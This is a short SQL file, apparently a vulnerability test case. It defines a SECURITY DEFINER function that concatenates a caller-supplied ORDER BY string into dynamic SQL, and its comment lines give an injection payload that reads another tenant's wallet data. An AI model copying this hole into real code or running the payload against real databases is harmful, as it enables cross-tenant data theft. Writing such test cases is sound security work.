-- Tenant A reads any table through a report function that takes the order as SQL.
-- about: report
-- as: ho_wallet_api
-- exploit: SET bank.tenant_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT api.report('at LIMIT (SELECT holder FROM bank.wallets WHERE balance > 1000)::integer');
-- shows: hb-secret
CREATE FUNCTION api.report(order_by text DEFAULT 'at') RETURNS SETOF text LANGUAGE plpgsql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT amount::text FROM bank.transfers WHERE tenant_id = bank.tenant() ORDER BY '
    || order_by;
END $$;
GRANT EXECUTE ON FUNCTION api.report(text) TO ho_wallet_api;
